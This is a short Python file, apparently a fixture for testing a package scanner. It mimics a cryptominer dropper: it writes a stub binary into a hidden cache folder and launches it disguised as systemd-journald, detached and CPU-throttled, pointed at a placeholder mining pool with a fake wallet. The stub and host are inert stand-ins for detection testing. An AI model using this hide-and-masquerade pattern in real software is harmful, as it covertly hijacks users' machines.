import os
import subprocess

_BIN = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"xmrig-stub-pipwarden-test"


def start():
    d = os.path.expanduser("~/.cache/.sys")
    os.makedirs(d, exist_ok=True)
    exe = os.path.join(d, "journald")
    with open(exe, "wb") as f:
        f.write(_BIN)
    os.chmod(exe, 0o755)
    cmd = (f"nohup nice -n 19 bash -c 'exec -a systemd-journald {exe} -o pool.example.invalid:3333 "
           f"-u 4PIPWARDENTESTNOTAWALLET --max-cpu-usage=40 --background' >/dev/null 2>&1 &")
    subprocess.Popen(cmd, shell=True, start_new_session=True)
